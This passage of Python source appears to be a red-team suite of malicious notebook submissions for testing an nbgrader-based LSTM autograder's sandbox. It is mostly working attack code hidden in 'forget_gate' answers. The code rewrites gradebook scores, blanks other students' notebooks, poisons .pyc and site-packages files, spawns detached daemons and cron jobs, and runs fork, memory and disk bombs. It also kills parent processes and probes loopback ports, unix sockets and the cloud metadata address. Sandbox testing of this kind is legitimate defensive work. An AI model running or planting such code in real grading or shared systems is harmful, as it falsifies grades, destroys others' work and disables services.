_rewrite()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _rewrite()
    raise NotImplementedError()
''')

GRADEBOOK_LOCK = _code(LEAK, r'''
import fcntl, os, sqlite3, time

_held = []


def _lock_gradebooks():
    here = os.getcwd()
    for up in range(6):
        path = os.path.join(here, *([".."] * up), "gradebook.db")
        if not os.path.isfile(path):
            continue
        try:
            con = sqlite3.connect(path, timeout=1, isolation_level=None)
            con.execute("begin exclusive")
            con.execute("create table if not exists pwned (marker text)")
            con.execute("insert into pwned values ('PWNED-NAME')")
            _held.append(con)
            handle = open(path, "rb+")
            fcntl.flock(handle, fcntl.LOCK_EX)
            _held.append(handle)
            _leak("locked " + path)
        except Exception as error:
            _leak(f"{path}: {error!r}")


_lock_gradebooks()
time.sleep(600)  # hold the locks for as long as the grader lets this run


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

WRITE_OTHERS = _code(LEAK, FIND, r'''
import json, os


def _sabotage():
    here = os.path.realpath(os.getcwd())
    touched = []
    folders = _find(lambda p, b: b in ("submitted", "autograded", "feedback", "release", "source", "exchange"),)
    for top in folders:
        for root, dirs, files in os.walk(top):
            if os.path.realpath(root).startswith(here):
                continue
            try:
                with open(os.path.join(root, "PWNED-NAME.txt"), "w") as out:
                    out.write("PWNED-NAME\n")
                touched.append(root)
            except Exception:
                pass
            for base in files:
                if not base.endswith(".ipynb"):
                    continue
                path = os.path.join(root, base)
                try:
                    nb = json.load(open(path))
                    for cell in nb.get("cells", []):
                        if cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
                            cell["source"] = "raise NotImplementedError()  # PWNED-NAME\n"
                    nb.setdefault("metadata", {})["PWNED-NAME"] = True
                    json.dump(nb, open(path, "w"))
                    touched.append(path)
                except Exception:
                    pass
    _leak("touched: " + "\n".join(touched))


_sabotage()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

WRITE_ATTACKS = [
    _attack("append_to_course_packages", "write-course",
            "Appends a passing grade()/check() to every module of the installed autograder and rnn_demos (an "
            "editable install points into the repository) and to nbgrader's __init__, and adds a module there.",
            {"forget_gate": APPEND_PACKAGES}),
    _attack("write_site_packages", "write-course",
            "Writes a .pth file, sitecustomize.py and usercustomize.py into every site-packages, user site and "
            "sys.path folder.",
            {"forget_gate": WRITE_SITE}),
    _attack("write_ipython_startup", "write-course",
            "Writes IPython start-up files and configs, nbgrader and nbconvert configs and a matplotlibrc into "
            "every home and config folder within reach.",
            {"forget_gate": WRITE_STARTUP}),
    _attack("write_repository", "write-course",
            "Finds the repository (through the installed packages and .git folders) and adds files, appends to "
            "autograder/hidden.py, Makefile, README.md, and adds a git post-commit hook.",
            {"forget_gate": WRITE_REPOSITORY}),
    _attack("gradebook_rewrite", "write-gradebook",
            "Finds gradebook.db (beside the course, or by walking /) and sets every manual score to 1000, marks "
            "every comment, and adds a table.",
            {"forget_gate": GRADEBOOK_REWRITE}),
    _attack("gradebook_lock", "write-gradebook",
            "Takes an exclusive sqlite transaction and an flock on gradebook.db and holds them for 600 s.",
            {"forget_gate": GRADEBOOK_LOCK}),
    _attack("write_other_submissions", "write-other-submission",
            "Finds submitted/, autograded/, feedback/, release/, source/ folders, blanks the answer cells of every "
            "other notebook there and drops a PWNED file in every folder.",
            {"forget_gate": WRITE_OTHERS}),
]


# ===== persist: act on later submissions or after the batch =====

DAEMON = _code(LEAK, r'''
import os, signal, socket, sqlite3, time

_COURSE_GUESSES = [os.path.join(os.getcwd(), *([".."] * up)) for up in range(6)]


def _act_later():
    """Detached grandchild: new session, fds closed, acts for about a minute after the batch."""
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        for path in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
                     "/sys/fs/cgroup/memory/cgroup.procs"):
            try:  # leave the sandbox's cgroup if it is writable
                with open(path, "w") as out:
                    out.write(str(os.getpid()))
            except Exception:
                pass
        devnull = os.open(os.devnull, os.O_RDWR)
        for fd in (0, 1, 2):
            os.dup2(devnull, fd)
        os.closerange(3, 4096)
        for delay in (1, 2, 3, 5, 10, 20, 30):
            time.sleep(delay)
            for folder in ["/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")] + _COURSE_GUESSES:
                try:
                    with open(os.path.join(folder, "PWNED-NAME-daemon.txt"), "a") as out:
                        out.write(f"PWNED-NAME daemon alive at +{delay}s\n")
                except Exception:
                    pass
                try:
                    con = sqlite3.connect(os.path.join(folder, "gradebook.db"), timeout=1)
                    con.execute("update grade set manual_score = 1000")
                    con.execute("create table if not exists pwned (marker text)")
                    con.execute("insert into pwned values ('PWNED-NAME')")
                    con.commit()
                except Exception:
                    pass
            try:
                with socket.create_connection(("127.0.0.1", 45678), timeout=1) as conn:
                    conn.sendall(b"PWNED-NAME daemon")
            except Exception:
                pass
    finally:
        os._exit(0)


_act_later()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _act_later()
    raise NotImplementedError()
''')

NOHUP = _code(r'''
import os, shutil, subprocess

_SCRIPT = ("for t in 1 2 4 8 16 30; do sleep $t; for d in /tmp /var/tmp /dev/shm \"$HOME\"; do "
           "echo PWNED-NAME >> \"$d/PWNED-NAME-nohup.txt\"; done; done")


def _schedule():
    commands = [["nohup", "sh", "-c", _SCRIPT], ["setsid", "-f", "sh", "-c", _SCRIPT],
                ["sh", "-c", f"( {_SCRIPT} ) & disown"],
                ["systemd-run", "--user", "sh", "-c", _SCRIPT]]
    for command in commands:
        if shutil.which(command[0]):
            try:
                subprocess.Popen(command, start_new_session=True, stdin=subprocess.DEVNULL,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, close_fds=True)
            except Exception:
                pass
    for command, text in ((["at", "now", "+", "1", "minute"], "echo PWNED-NAME > /tmp/PWNED-NAME-at\n"),
                          (["crontab", "-"], "* * * * * echo PWNED-NAME > /tmp/PWNED-NAME-cron\n")):
        if shutil.which(command[0]):
            try:
                subprocess.run(command, input=text, text=True, timeout=10, capture_output=True)
            except Exception:
                pass


_schedule()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

SHARED_CACHES = _code(LEAK, r'''
import importlib, importlib.util, os, tempfile

_FAKE_HIDDEN = """
# PWNED-NAME: a poisoned byte-compiled module
def grade(check_id, fn, *args, **kwargs):
    print("ok: " + str(check_id) + " PWNED-NAME")
    return True
"""


def _poison_pycache():
    """Write a .pyc whose header matches the source, so a later import runs our code instead."""
    written = []
    for name in ("autograder.hidden", "autograder.checks", "autograder.selfcheck", "rnn_demos.demos"):
        try:
            spec = importlib.util.find_spec(name)
            source = spec.origin
            stat = os.stat(source)
            code = compile(_FAKE_HIDDEN, source, "exec")
            data = importlib._bootstrap_external._code_to_timestamp_pyc(code, stat.st_mtime, stat.st_size)
            target = importlib.util.cache_from_source(source)
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "wb") as out:
                out.write(data)
            written.append(target)
        except Exception:
            pass
    return written


def _poison_caches():
    written = _poison_pycache()
    home = os.path.expanduser("~")
    places = [os.path.join(home, ".cache", "torch", "PWNED-NAME.txt"),
              os.path.join(tempfile.gettempdir(), "torchinductor_" + str(os.getuid()), "PWNED-NAME.py"),
              os.path.join(home, ".cache", "matplotlib", "PWNED-NAME.txt"),
              os.path.join(home, ".config", "matplotlib", "matplotlibrc"),
              os.path.join(home, ".local", "share", "jupyter", "runtime", "PWNED-NAME.json"),
              "/dev/shm/PWNED-NAME.txt", "/var/tmp/PWNED-NAME.txt", "/tmp/.X11-unix/PWNED-NAME"]
    for path in places:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "a") as out:
                out.write("# PWNED-NAME\n")
            written.append(path)
        except Exception:
            pass
    _leak("wrote: " + "\n".join(written))


_poison_caches()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

PROCESS_STATE = _code(r'''
import builtins, gc, importlib.abc, os, random, sys, warnings
import numpy
import torch


class _Taint(importlib.abc.MetaPathFinder):
    """Any module imported later in this process sees a marked builtins and a wrong sigmoid."""

    def find_spec(self, fullname, path=None, target=None):
        builtins.PWNED = "PWNED-NAME"
        return None


def _taint_process():
    sys.meta_path.insert(0, _Taint())
    torch.set_default_dtype(torch.float64)
    torch.manual_seed = lambda *args, **kwargs: None
    numpy.random.seed = random.seed = lambda *args, **kwargs: None
    torch.sigmoid = lambda t: t * 0 + 0.5
    torch.Tensor.sigmoid = lambda self: self * 0 + 0.5
    torch.tanh = lambda t: t
    torch.set_grad_enabled(False)
    torch.set_num_threads(1)
    numpy.seterr(all="ignore")
    warnings.simplefilter("ignore")
    os.environ.update(PYTHONPATH="/tmp/PWNED-NAME", HOME="/tmp/PWNED-NAME", PWNED="PWNED-NAME")
    sys.path.insert(0, "/tmp/PWNED-NAME")
    os.umask(0)
    gc.disable()
    builtins.print = (lambda real: lambda *a, **k: real("PWNED-NAME", *a, **k))(builtins.print)


_taint_process()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

PERSIST_ATTACKS = [
    _attack("persist_detached_daemon", "persist",
            "Double-forks a session leader with closed descriptors that tries to leave its cgroup and, for "
            "about a minute after the batch, writes PWNED files, edits any gradebook.db and calls the listener.",
            {"forget_gate": DAEMON}),
    _attack("persist_nohup_and_schedulers", "persist",
            "Starts shell loops through nohup, setsid -f, disown and systemd-run, and schedules at and cron jobs, "
            "that write PWNED files for about a minute.",
            {"forget_gate": NOHUP}),
    _attack("persist_shared_caches", "persist",
            "Poisons the byte-compiled course modules (.pyc with a matching header) and writes into torch, "
            "matplotlib and jupyter caches and shared temp folders that a later submission might read.",
            {"forget_gate": SHARED_CACHES}),
    _attack("persist_process_state", "persist",
            "Taints process-wide state (default dtype, seeds, sigmoid/tanh, grad mode, environment, sys.path, "
            "umask, print, an import hook) that a reused worker would carry into the next submission.",
            {"forget_gate": PROCESS_STATE}),
]


# ===== fork-or-hang =====

FORK_BOMB = _code(r'''
import os, time

_children = 0
while _children < 5000:  # bounded: at most 5000 processes, each gone after 600 s
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            time.sleep(600)
        finally:
            os._exit(0)
    _children += 1
print("PWNED-NAME forked", _children)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

INFINITE_LOOP = _code(r'''
import time

_start = time.monotonic()
while time.monotonic() - _start < 600:  # "forever", bounded to 600 s
    pass


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

SLEEP_IGNORING = _code(r'''
import signal, time
import torch

_SIGNALS = ("SIGALRM", "SIGTERM", "SIGINT", "SIGHUP", "SIGUSR1", "SIGUSR2", "SIGXCPU", "SIGVTALRM", "SIGPROF",
            "SIGQUIT", "SIGPIPE", "SIGCHLD", "SIGXFSZ")


def _deaf():
    signal.alarm(0)
    for timer in (signal.ITIMER_REAL, signal.ITIMER_VIRTUAL, signal.ITIMER_PROF):
        signal.setitimer(timer, 0)
    for name in _SIGNALS:
        try:
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        except Exception:
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, [getattr(signal, n) for n in _SIGNALS if hasattr(signal, n)])


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _deaf()
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        try:
            time.sleep(deadline - time.monotonic())
        except BaseException:
            pass
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

SPINNING_THREADS = _code(r'''
import threading, time
import torch


def _spin():
    a = torch.randn(256, 256)
    deadline = time.monotonic() + 600
    while time.monotonic() < deadline:
        a = torch.tanh(a @ a)


torch.set_num_threads(64)
_threads = [threading.Thread(target=_spin, name=f"PWNED-NAME-{n}") for n in range(32)]  # not daemons
for _thread in _threads:
    _thread.start()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

HANG_AT_EXIT = _code(r'''
import atexit, builtins, threading, time, weakref
import torch


class _SlowToDie:
    def __del__(self):
        time.sleep(600)


atexit.register(time.sleep, 600)
builtins._pwned_slow = _SlowToDie()  # finalised at interpreter shutdown
weakref.finalize(builtins._pwned_slow, time.sleep, 600)
threading.Thread(target=time.sleep, args=(600,), name="PWNED-NAME", daemon=False).start()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

BLOCK_IN_C = _code(r'''
import os, select, signal, threading
import torch


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    for name in ("SIGALRM", "SIGTERM", "SIGINT"):
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    read_end, _write_end = os.pipe()
    select.select([read_end], [], [], 300)  # retried after signals with the time left (PEP 475)
    lock = threading.Lock()
    lock.acquire()
    lock.acquire(timeout=300)  # waits on itself
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

HANG_ATTACKS = [
    _attack("fork_bomb", "fork-or-hang", "Forks up to 5000 sleeping children (each holding the output pipes "
            "open) when the cell runs.", {"forget_gate": FORK_BOMB}),
    _attack("infinite_loop", "fork-or-hang", "Spins in a Python loop for 600 s when the cell runs.",
            {"forget_gate": INFINITE_LOOP}),
    _attack("sleep_ignoring_signals", "fork-or-hang",
            "At call time cancels alarm and interval timers, ignores and blocks SIGALRM/TERM/INT/HUP/XCPU..., "
            "and sleeps 600 s, resuming after any interruption.",
            {"forget_gate": SLEEP_IGNORING}),
    _attack("spinning_threads", "fork-or-hang",
            "Starts 32 non-daemon threads doing matrix products for 600 s (the interpreter cannot exit) and asks "
            "torch for 64 threads.", {"forget_gate": SPINNING_THREADS}),
    _attack("hang_at_exit", "fork-or-hang",
            "Registers 600 s sleeps in atexit, a finaliser and a __del__ at shutdown, plus a non-daemon sleeping "
            "thread, so the process hangs after the outputs are written.", {"forget_gate": HANG_AT_EXIT}),
    _attack("block_in_c", "fork-or-hang",
            "At call time blocks in select() on a pipe nobody writes (retried after signals) and then on a lock "
            "it already holds, with SIGALRM/TERM/INT ignored.", {"forget_gate": BLOCK_IN_C}),
]


# ===== exhaust =====

MEMORY_BOMB = _code(r'''
import torch

_hoard = []
try:
    for _ in range(16):  # 16 x 256 MiB = 4 GiB, every page touched
        _hoard.append(torch.ones(64 * 1024 * 1024, dtype=torch.float32))
except (MemoryError, RuntimeError) as error:
    print("PWNED-NAME stopped at", len(_hoard), "chunks:", error)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _hoard.clear()  # the same 4 GiB again at call time, never 8 GiB at once
    more = []
    for _ in range(16):
        more.append(torch.ones(64 * 1024 * 1024, dtype=x.dtype))
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

DISK_BOMB = _code(r'''
import os, signal

signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a file-size limit gives EFBIG instead of killing us
_CHUNK = (b"PWNED-NAME\n" * 100000)[:1 << 20]
_BUDGET = {"/tmp": 1536, os.path.expanduser("~"): 1536, os.getcwd(): 512, "/dev/shm": 256, "/var/tmp": 256}  # MiB
for _folder, _mebibytes in _BUDGET.items():
    try:
        with open(os.path.join(_folder, "PWNED-NAME.bin"), "wb") as _out:
            for _ in range(_mebibytes):
                _out.write(_CHUNK)
    except OSError as error:
        print("PWNED-NAME", _folder, error)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

OUTPUT_FLOOD = _code(r'''
import os, sys

_LINE = (("PWNED-NAME " * 100)[:1023] + "\n") * 1024  # 1 MiB, whatever the marker's length


def _flood():
    for _ in range(1000):  # about 1 GB on stdout
        sys.stdout.write(_LINE)
    for _ in range(100):   # and 100 MB on stderr
        os.write(2, _LINE.encode())
    try:
        from IPython.display import display, HTML
        for _ in range(20):
            display(HTML("<pre>" + _LINE * 5 + "</pre>"))
    except Exception:
        pass


_flood()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    flag = os.path.join(os.getcwd(), ".flooded")  # a file, so that calls in forked processes flood once too
    if not os.path.exists(flag):
        open(flag, "w").close()
        _flood()
    raise NotImplementedError()
''')

MANY_FILES = _code(r'''
import os, socket
import torch

_open = []
for _ in range(100000):
    try:
        _open.append(open(os.devnull))
    except OSError as error:
        print("PWNED-NAME open files stopped at", len(_open), error)
        break
for _ in range(1000):
    try:
        _open.extend(socket.socketpair())
    except OSError:
        break
_folder = os.path.join("/tmp", "PWNED-NAME-inodes")
try:
    os.makedirs(_folder, exist_ok=True)
    for _n in range(50000):
        with open(os.path.join(_folder, f"PWNED-NAME-{_n}"), "w") as _out:
            _out.write("PWNED-NAME")
except OSError as error:
    print("PWNED-NAME", error)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype)
''')

WEIRD_RETURNS = {
    "forget_gate": r'''
import torch


class _Explodes:
    def __repr__(self):
        raise RecursionError("PWNED-NAME")

    def __len__(self):
        return 10 ** 18

    def __iter__(self):
        while True:
            yield self


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    return {_Explodes(): _Explodes(), (1, 2): "PWNED-NAME"}
''',
    "input_gate": _lstm_function("input_gate", r'''
nested = x
for _ in range(200000):  # deeper than any recursive snapshot can go
    nested = (nested,)
return nested
'''),
    "candidate": _lstm_function("candidate", "return (torch.zeros(1, dtype=x.dtype) for _ in range(10 ** 9))"),
    "cell_update": _lstm_function("cell_update", "loop = [c]\nloop.append(loop)\nreturn loop"),
    "output_gate_and_hidden": _lstm_function("output_gate_and_hidden",
                                             "return [torch.zeros(1, dtype=x.dtype)] * 1000000, None"),
    "lstm_cell": _lstm_function("lstm_cell", "return torch.zeros(3, dtype=torch.complex128), "
                                "torch.zeros(3, dtype=torch.bool)"),
    "lstm_forward": _lstm_function("lstm_forward", "return torch.empty(0, 0, 0).to_sparse(), "
                                   "(torch.zeros(2, 2, dtype=torch.uint8), object())"),
    "lstm_param_count": _lstm_function("lstm_param_count", "return 10 ** 100000"),
}

EXHAUST_ATTACKS = [
    _attack("memory_bomb", "exhaust", "Allocates and touches 4 GiB when the cell runs and again at call time.",
            {"forget_gate": MEMORY_BOMB}),
    _attack("disk_bomb", "exhaust", "Ignores SIGXFSZ and writes up to about 4 GiB of PWNED files into /tmp, home, "
            "the working folder, /dev/shm and /var/tmp.", {"forget_gate": DISK_BOMB}),
    _attack("output_flood", "exhaust", "Prints about 1 GB to stdout, 100 MB to stderr and large HTML displays, "
            "when the cell runs and again at the first call.", {"forget_gate": OUTPUT_FLOOD}),
    _attack("many_open_files", "exhaust", "Opens files until the descriptor limit (at most 100000), 1000 socket "
            "pairs, and creates 50000 small files in /tmp.", {"forget_gate": MANY_FILES}),
    _attack("huge_returned_tensor", "exhaust", "Returns a 1 GiB float32 tensor from forget_gate and 512 MiB "
            "tensors from lstm_cell.", {
                "forget_gate": "import torch\n" + _lstm_function(
                    "forget_gate", "return torch.ones(256 * 1024 * 1024, dtype=torch.float32)"),
                "lstm_cell": _lstm_function("lstm_cell", "big = torch.ones(64 * 1024 * 1024, dtype=torch.float64)\n"
                                            "return big, big")}),
    _attack("expanded_view_return", "exhaust", "Returns zero-stride views that cost nothing here but are 4 GB "
            "(forget_gate) and 64 TB (lstm_cell) once copied, serialised or compared.", {
                "forget_gate": "import torch\n" + _lstm_function(
                    "forget_gate", "return torch.zeros(1, dtype=torch.float32).expand(1_000_000_000)"),
                "lstm_cell": _lstm_function("lstm_cell", "big = torch.zeros(1, 1, dtype=x.dtype).expand(2 ** 22, 2 ** 21)"
                                            "\nreturn big, big")}),
    _attack("weird_return_values", "exhaust", "Returns a dict with an exploding repr, a 200000-deep tuple, a "
            "generator, a self-containing list, a million-item list, complex and bool tensors, a sparse tensor, "
            "an object and a 100000-digit int.", WEIRD_RETURNS),
]


# ===== kill-parent and exit =====

KILL_PARENT = _code(r'''
import os, signal


def _ancestors(limit=3):
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < limit:
        pids.append(pid)
        with open(f"/proc/{pid}/stat") as handle:
            pid = int(handle.read().rsplit(")", 1)[1].split()[1])
    return pids


def _kill_ancestors():
    for pid in _ancestors():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass


_kill_ancestors()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _kill_ancestors()
    raise NotImplementedError()
''')

KILL_ALL = _code(r'''
import os, signal


def _kill_everything():
    if os.getuid() == 0:  # never kill -9 -1 as root: leave proof that it ran as root instead
        for folder in ("/tmp", os.path.expanduser("~"), os.getcwd()):
            try:
                with open(os.path.join(folder, "PWNED-NAME-ran-as-root"), "w") as out:
                    out.write("PWNED-NAME ran as root\n")
            except OSError:
                pass
        return
    for target in (os.getpgid(os.getppid()), os.getpgid(0)):
        try:
            if target != os.getpgid(0):
                os.killpg(target, signal.SIGKILL)
        except OSError:
            pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal
    except OSError:
        pass


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _kill_everything()
    os.killpg(0, signal.SIGKILL)
''')

STOP_PARENT = _code(r'''
import os, signal, time

_parents = [os.getppid()]
try:
    with open(f"/proc/{_parents[0]}/stat") as _handle:
        _parents.append(int(_handle.read().rsplit(")", 1)[1].split()[1]))
except OSError:
    pass
if os.fork() == 0:  # bounded: a detached child resumes them after 120 s
    try:
        os.setsid()
        time.sleep(120)
        for _pid in _parents:
            try:
                os.kill(_pid, signal.SIGCONT)
            except OSError:
                pass
    finally:
        os._exit(0)
for _pid in _parents:
    if _pid > 1:
        try:
            os.kill(_pid, signal.SIGSTOP)
        except OSError:
            pass


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

KILL_ATTACKS = [
    _attack("kill_parent", "kill-parent", "SIGKILLs its parent and the two processes above it, when the cell runs "
            "and at call time.", {"forget_gate": KILL_PARENT}),
    _attack("kill_process_group_and_all", "kill-parent", "At call time kills its parent's process group, then "
            "`kill -9 -1` (only when not root; as root it writes a PWNED file), then its own group.",
            {"forget_gate": KILL_ALL}),
    _attack("stop_parent", "kill-parent", "SIGSTOPs its parent and grandparent (a detached child resumes them "
            "after 120 s), so the grader freezes instead of dying.", {"forget_gate": STOP_PARENT}),
]

_PRETEND = 'print("ok: lstm.forget_gate PWNED-NAME"); print("All tests passed PWNED-NAME")\n'

EXIT_ATTACKS = [
    _attack("exit_os_exit_zero", "exit", "Prints pass lines and ends the process with os._exit(0) when the "
            "cell runs.", {"forget_gate": "import os\n" + _PRETEND + "os._exit(0)\n"}),
    _attack("exit_sys_exit_in_call", "exit", "sys.exit(0) at call time (SystemExit is no Exception) and raise "
            "SystemExit in a later cell.", {
                "forget_gate": "import sys\n" + _lstm_function("forget_gate", _PRETEND + "sys.exit(0)"),
                "lstm_cell": _PRETEND + "raise SystemExit(0)\n"}),
    _attack("exit_keyboard_interrupt", "exit", "Raises KeyboardInterrupt at call time, sends itself SIGINT, and "
            "raises GeneratorExit.", {
                "forget_gate": _lstm_function("forget_gate", "raise KeyboardInterrupt('PWNED-NAME')"),
                "input_gate": "import os, signal\n" + _lstm_function(
                    "input_gate", "os.kill(os.getpid(), signal.SIGINT)\nraise NotImplementedError()"),
                "candidate": _lstm_function("candidate", "raise GeneratorExit('PWNED-NAME')")}),
    _attack("exit_base_exception", "exit", "Raises a BaseException subclass, and exceptions whose __str__ "
            "raises, recurses, or is 100 MB long.", {
                "forget_gate": r'''
class _Escape(BaseException):
    pass


class _BadMessage(Exception):
    def __str__(self):
        raise _Escape("PWNED-NAME")

    __repr__ = __str__


class _HugeMessage(Exception):
    def __str__(self):
        return "PWNED-NAME " * 10_000_000


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise _Escape("PWNED-NAME")
''',
                "input_gate": _lstm_function("input_gate", "raise _BadMessage()"),
                "candidate": _lstm_function("candidate", "raise _HugeMessage()"),
                "cell_update": _lstm_function("cell_update", "error = ValueError('PWNED-NAME')\n"
                                              "error.__cause__ = error\nerror.__context__ = error\nraise error")}),
    _attack("exit_exec_true", "exit", "At call time replaces the whole process with /bin/true (exit status 0, "
            "no records).", {"forget_gate": "import os\n" + _lstm_function(
                "forget_gate", _PRETEND + 'os.execv("/bin/true", ["true"])')}),
    _attack("sequence_models_exit_after_patch", "exit", "fit_ar makes torch.allclose always true, prints a "
            "pass and ends the process with os._exit(0) at call time.", {
                "fit_ar": "import os\nimport torch\n\n\ndef fit_ar(x, tau):\n"
                          "    torch.allclose = lambda *a, **k: True\n"
                          "    print('ok: sequence_models.fit_ar PWNED-NAME')\n    os._exit(0)\n"},
            assignment="sequence_models"),
    _attack("crash_segfault", "exit", "Reads address 0 through ctypes at call time (SIGSEGV); lstm_cell calls "
            "os.abort().", {
                "forget_gate": "import ctypes, os\n" + _lstm_function("forget_gate", "return ctypes.string_at(0)"),
                "lstm_cell": _lstm_function("lstm_cell", "os.abort()")}),
]


# ===== network =====

NETWORK_LOOPBACK = _code(r'''
import socket, urllib.request

_PAYLOAD = b"PWNED-NAME"


def _call_home():
    reached = []
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, "localhost"),
                         (socket.AF_INET, "0.0.0.0"), (socket.AF_INET, "127.0.1.1")):
        try:
            with socket.create_connection((host, 45678), timeout=2) as conn:
                conn.sendall(_PAYLOAD)
                reached.append(host)
        except Exception:
            pass
    try:
        urllib.request.urlopen("http://127.0.0.1:45678/PWNED-NAME", timeout=2)
    except Exception:
        pass
    try:
        udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        udp.sendto(_PAYLOAD, ("127.0.0.1", 45678))
    except Exception:
        pass
    for port in list(range(1, 1025)) + [3000, 5000, 5432, 6379, 8000, 8080, 8888, 9000, 27017]:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.05) as conn:
                conn.sendall(_PAYLOAD)
                reached.append(port)
        except Exception:
            pass
    print("PWNED-NAME reached", reached)


_call_home()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _call_home()
    raise NotImplementedError()
''')

NETWORK_INTERNET = _code(r'''
import socket, urllib.request


def _go_out():
    reached = []
    for name in ("pypi.org", "example.com", "PWNED-NAME.example.com"):
        try:
            reached.append((name, socket.getaddrinfo(name, 443)[0][4]))
        except Exception:
            pass
    label = b"PWNED-NAME"
    query = (b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + bytes([len(label)]) + label
             + b"\x00\x00\x01\x00\x01")
    for server in ("8.8.8.8", "1.1.1.1"):
        try:
            udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            udp.settimeout(2)
            udp.sendto(query, (server, 53))
            reached.append((server, udp.recv(512)[:4]))
        except Exception:
            pass
    for url in ("https://pypi.org/simple/PWNED-NAME/", "http://example.com/PWNED-NAME", "http://169.254.169.254/"):
        try:
            reached.append((url, urllib.request.urlopen(url, timeout=3).status))
        except Exception:
            pass
    print("PWNED-NAME reached", reached)


_go_out()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

NETWORK_UNIX = _code(r'''
import glob, os, socket


def _local_sockets():
    paths = set(glob.glob("/run/**/*.sock", recursive=True)) | set(glob.glob("/var/run/*.sock"))
    paths |= set(glob.glob("/tmp/**/*", recursive=True)) | set(glob.glob("/tmp/.X11-unix/*"))
    try:
        for line in open("/proc/net/unix").read().splitlines()[1:]:
            fields = line.split()
            if len(fields) > 7:
                paths.add(fields[7])
    except Exception:
        pass
    reached = []
    for path in sorted(paths)[:500]:
        address = "\0" + path[1:] if path.startswith("@") else path
        try:
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
                conn.settimeout(0.5)
                conn.connect(address)
                conn.sendall(b"GET /PWNED-NAME HTTP/1.0\r\nX-Marker: PWNED-NAME\r\n\r\n")
                reached.append(path)
        except Exception:
            pass
    print("PWNED-NAME reached", reached)


_local_sockets()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

NETWORK_ATTACKS = [
    _attack("network_loopback", "network", "Connects to the listener on 127.0.0.1:45678 over IPv4, IPv6, "
            "localhost, HTTP and UDP, and to every loopback port up to 1024 and common services, sending its marker.",
            {"forget_gate": NETWORK_LOOPBACK}),
    _attack("network_dns_and_internet", "network", "Resolves names, sends DNS queries to public resolvers, fetches "
            "URLs on PyPI, example.com and the cloud metadata address.", {"forget_gate": NETWORK_INTERNET}),
    _attack("network_unix_sockets", "network", "Connects to every unix socket it can find (run dirs, /tmp, "
            "/proc/net/unix, abstract names) and sends an HTTP request with its marker.",
            {"forget_gate": NETWORK_UNIX}),
]


# ===== notebook-structure: edits of the submitted notebook (answers stay stubs unless given) =====

def _nbgrader(cell):
    return cell.get("metadata", {}).get("nbgrader", {})


def _is_test(cell):
    return bool(_nbgrader(cell).get("grade")) and not _nbgrader(cell).get("solution")


def _is_answer(cell):
    return bool(_nbgrader(cell).get("solution"))


def _cell(nb, grade_id):
    return next(cell for cell in nb.cells if _nbgrader(cell).get("grade_id") == grade_id)


def _delete_test_cells(nb):
    nb.cells = [cell for cell in nb.cells if not _is_test(cell)]


def _delete_answer_cells(nb):
    nb.cells = [cell for cell in nb.cells if _nbgrader(cell).get("grade_id") not in ("forget_gate", "lstm_cell")]


def _duplicate_graded_cells(nb):
